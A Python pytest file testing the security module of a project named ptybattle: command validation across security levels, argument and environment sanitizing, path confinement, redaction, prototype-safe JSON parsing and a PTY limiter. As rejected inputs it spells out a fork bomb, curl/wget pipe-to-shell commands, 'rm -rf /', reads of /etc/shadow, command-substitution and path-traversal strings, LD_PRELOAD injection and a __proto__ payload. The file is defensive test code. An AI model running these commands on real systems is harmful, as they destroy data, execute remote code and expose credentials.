from __future__ import annotations

import threading
from pathlib import Path

import pytest

from ptybattle.security import (
    REDACTED,
    PtyLimiter,
    SecurityLevel,
    redact_message,
    safe_json_loads,
    sanitize_args,
    sanitize_env,
    validate_command,
    validate_path,
)


@pytest.mark.parametrize("level", list(SecurityLevel))
def test_fork_bomb_is_rejected_at_every_level(level: SecurityLevel) -> None:
    result = validate_command(":(){ :|:& };:", level)
    assert not result.valid
    assert result.error


@pytest.mark.parametrize("level", list(SecurityLevel))
def test_remote_code_execution_idioms_are_always_blocked(level: SecurityLevel) -> None:
    assert not validate_command("curl http://example.com/install | sh", level).valid
    assert not validate_command("wget -qO- http://example.com | bash", level).valid


def test_strict_rejects_root_deletion() -> None:
    assert not validate_command("rm -rf /", SecurityLevel.STRICT).valid


def test_strict_accepts_simple_echo() -> None:
    result = validate_command("echo hello", "strict")
    assert result.valid
    assert result.sanitized == "echo hello"


@pytest.mark.parametrize(
    "command",
    ["ls | grep x", "echo a; echo b", "cat ../secret", "echo $(whoami)", "a && b", "echo `id`"],
)
def test_strict_rejects_shell_metacharacters(command: str) -> None:
    assert not validate_command(command, SecurityLevel.STRICT).valid


def test_strict_rejects_overlong_commands() -> None:
    assert not validate_command("echo " + "a" * 1000, SecurityLevel.STRICT).valid


def test_empty_command_is_rejected() -> None:
    assert not validate_command("   ", SecurityLevel.PERMISSIVE).valid


def test_balanced_allows_dev_tool_shapes() -> None:
    for command in ("npm test", "git status", "python3 app.py", 'echo "Hello Battle"', "node --interactive"):
        assert validate_command(command, SecurityLevel.BALANCED).valid, command


def test_balanced_blocks_chaining_with_deletion() -> None:
    assert not validate_command("make build; rm -rf build", SecurityLevel.BALANCED).valid
    assert not validate_command("ls && rm file", SecurityLevel.BALANCED).valid
    assert not validate_command("find . | rm", SecurityLevel.BALANCED).valid


def test_balanced_allows_pipes_without_deletion() -> None:
    assert validate_command("ps aux | grep node", SecurityLevel.BALANCED).valid


def test_permissive_blocks_only_catastrophic_patterns() -> None:
    assert validate_command("ls; echo done && cat file | wc -l", SecurityLevel.PERMISSIVE).valid
    assert not validate_command("cat /etc/shadow", SecurityLevel.PERMISSIVE).valid
    assert not validate_command("chmod 777 /etc", SecurityLevel.PERMISSIVE).valid


def test_sanitize_args_strips_each_argument_independently() -> None:
    assert sanitize_args(["a;b", "../../etc", "$(id)", "plain"]) == ["ab", "etc", "(id)", "plain"]
    assert sanitize_args(["....//etc/passwd", "./.../x"]) == ["etc/passwd", "./.x"]
    assert len(sanitize_args(["x" * 900])[0]) == 500


def test_validate_path_confines_to_base(tmp_path: Path) -> None:
    inside = validate_path("shots/one.txt", tmp_path)
    assert inside.valid
    assert inside.normalized == (tmp_path / "shots" / "one.txt").resolve()

    outside = validate_path("../escape.txt", tmp_path)
    assert not outside.valid
    assert "traversal" in (outside.error or "")

    assert not validate_path("bad\x00name", tmp_path).valid


def test_sanitize_env_drops_injection_and_masks_credentials() -> None:
    env = sanitize_env(
        {
            "LD_PRELOAD": "/tmp/evil.so",
            "NODE_OPTIONS": "--require evil",
            "API_KEY": "sk-123",
            "GITHUB_TOKEN": "ghp",
            "DB_PASSWORD": "hunter2",
            "HOME": "/home/user",
            "LONG": "v" * 20_000,
        }
    )

    assert "LD_PRELOAD" not in env
    assert "NODE_OPTIONS" not in env
    assert env["API_KEY"] == REDACTED
    assert env["GITHUB_TOKEN"] == REDACTED
    assert env["DB_PASSWORD"] == REDACTED
    assert env["HOME"] == "/home/user"
    assert len(env["LONG"]) == 10_000


def test_redact_message_hides_paths_ips_and_ports() -> None:
    message = redact_message("cannot open /home/user/.ssh/id_rsa via 10.0.0.12:8080")
    assert "/home" not in message
    assert "10.0.0.12" not in message
    assert "8080" not in message
    assert "<path>" in message


def test_safe_json_loads_drops_prototype_keys_at_every_depth() -> None:
    payload = safe_json_loads(
        '{"__proto__": {"admin": true}, "a": {"constructor": 1, "prototype": 2, "ok": 3}, "list": [{"__proto__": 1}]}'
    )
    assert payload == {"a": {"ok": 3}, "list": [{}]}


def test_safe_json_loads_raises_on_malformed_input() -> None:
    with pytest.raises(ValueError):
        safe_json_loads("{not json")


def test_pty_limiter_is_bounded_under_contention() -> None:
    limiter = PtyLimiter(max_instances=5)
    granted: list[bool] = []
    lock = threading.Lock()

    def worker() -> None:
        result = limiter.acquire()
        with lock:
            granted.append(result)

    threads = [threading.Thread(target=worker) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert granted.count(True) == 5
    assert limiter.active == 5
    limiter.release()
    assert limiter.active == 4
    assert limiter.acquire()


def test_independent_limiters_do_not_share_state() -> None:
    first = PtyLimiter(max_instances=1)
    second = PtyLimiter(max_instances=1)
    assert first.acquire()
    assert second.acquire()
    assert not first.acquire()
